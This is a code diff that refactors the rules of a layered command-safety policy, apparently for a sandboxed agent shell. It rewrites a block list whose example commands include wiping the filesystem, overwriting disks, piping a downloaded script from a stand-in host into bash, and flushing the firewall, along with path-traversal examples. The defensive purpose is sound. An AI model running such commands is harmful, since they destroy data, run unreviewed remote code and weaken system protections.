@@ -4,7 +4,6 @@ import { rule, rules } from './rule.ts';
 function dangerousPattern(id: string, title: string, wrong: string) {
   return rule<{ pattern: string }>({
     layer: 1,
-    severity: 'error',
     title,
     why: 'The first layer blocks dangerous patterns anywhere in what would run: in a chain, after a prefix, in a substitution, or in an npm script. Text that is data, such as a search pattern, does not match.',
     wrong,
@@ -27,7 +26,6 @@ patterns:
     not_match: [cat notes.md]`;
   return rule<{ name: string; pattern: string; reason: string }>({
     layer,
-    severity: 'error',
     title: `Command matches a pattern of the policy (layer ${layer})`,
     why: 'A policy can add patterns to each layer, each with a name and a reason.',
     wrong: { command: 'cat config/prod.json', policy },
@@ -40,49 +38,26 @@ patterns:
   });
 }
 
-const dangerousPatterns = {
-  mass_deletion: dangerousPattern('mass_deletion', 'Mass file deletion', 'rm -rf /'),
-  raw_disk_write: dangerousPattern(
-    'raw_disk_write',
-    'Raw disk writing',
-    'dd if=/dev/zero of=/dev/sda',
-  ),
-  filesystem_format: dangerousPattern(
-    'filesystem_format',
-    'Filesystem formatting',
-    'mkfs.ext4 /dev/sdb1',
-  ),
-  direct_disk_write: dangerousPattern(
-    'direct_disk_write',
-    'Direct disk writing',
-    'echo x > /dev/sda',
-  ),
-  remote_code_execution: dangerousPattern(
-    'remote_code_execution',
-    'Remote code execution',
-    'curl http://host.test/x.sh | bash',
-  ),
-  world_writable: dangerousPattern(
-    'world_writable',
-    'World-writable permissions',
-    'chmod 777 notes.md',
-  ),
-  privilege_escalation: dangerousPattern(
-    'privilege_escalation',
-    'Privilege escalation',
-    'chown root notes.md',
-  ),
-  firewall_manipulation: dangerousPattern(
-    'firewall_manipulation',
-    'Firewall manipulation',
-    'iptables -F',
-  ),
-  system_shutdown: dangerousPattern('system_shutdown', 'System shutdown', 'shutdown -h now'),
-  system_reboot: dangerousPattern('system_reboot', 'System reboot', 'reboot'),
-  force_kill: dangerousPattern('force_kill', 'Force kill of processes', 'kill -9 1'),
-};
+/** What each pattern finds, and an example. */
+const PATTERNS = {
+  mass_deletion: ['Mass file deletion', 'rm -rf /'],
+  raw_disk_write: ['Raw disk writing', 'dd if=/dev/zero of=/dev/sda'],
+  filesystem_format: ['Filesystem formatting', 'mkfs.ext4 /dev/sdb1'],
+  direct_disk_write: ['Direct disk writing', 'echo x > /dev/sda'],
+  remote_code_execution: ['Remote code execution', 'curl http://host.test/x.sh | bash'],
+  world_writable: ['World-writable permissions', 'chmod 777 notes.md'],
+  privilege_escalation: ['Privilege escalation', 'chown root notes.md'],
+  firewall_manipulation: ['Firewall manipulation', 'iptables -F'],
+  system_shutdown: ['System shutdown', 'shutdown -h now'],
+  system_reboot: ['System reboot', 'reboot'],
+  force_kill: ['Force kill of processes', 'kill -9 1'],
+} as const;
 
-export type DangerousPatternId = keyof typeof dangerousPatterns;
+export type DangerousPatternId = keyof typeof PATTERNS;
+
+const dangerousPatterns = Object.fromEntries(
+  Object.entries(PATTERNS).map(([id, [title, wrong]]) => [id, dangerousPattern(id, title, wrong)]),
+) as Record<DangerousPatternId, ReturnType<typeof dangerousPattern>>;
 
 /** The rules of the `workspace` profile, layer by layer. */
 export const workspaceRules = rules(
@@ -93,7 +68,6 @@ export const workspaceRules = rules(
     'custom_pattern.1': customPattern(1),
     path_outside_workspace: rule<{ path: string }>({
       layer: 2,
-      severity: 'error',
       title: 'Path is outside the workspace',
       why: 'The second layer keeps file operations inside the workspace: every path must be inside it after `..` and symbolic links are resolved.',
       wrong: 'cat ../secret',
@@ -105,7 +79,6 @@ export const workspaceRules = rules(
     }),
     path_traversal: rule<{ path: string }>({
       layer: 2,
-      severity: 'error',
       title: 'Path contains ../',
       why: '`../` is rejected even if the path stays inside the workspace.',
       wrong: 'cat sub/../notes.md',
@@ -116,7 +89,6 @@ export const workspaceRules = rules(
     'custom_pattern.2': customPattern(2),
     blocked_flag: rule<{ program: string; flag: string }>({
       layer: 3,
-      severity: 'error',
       harm: 'broken',
       title: 'Flag is blocked',
       why: 'The third layer blocks flags that bypass safety checks: `-rf` and `-i` of `rm`, `--force` of any command, and `--all` of dangerous commands.',
@@ -128,7 +100,6 @@ export const workspaceRules = rules(
     }),
     command_not_allowed: rule<{ program: string; reason: string }>({
       layer: 3,
-      severity: 'error',
       harm: 'broken',
       title: 'Command is not allowed',
       why: 'The third layer allows a fixed list of commands. These commands must not run code that has not been reviewed, delete files, or download anything.',
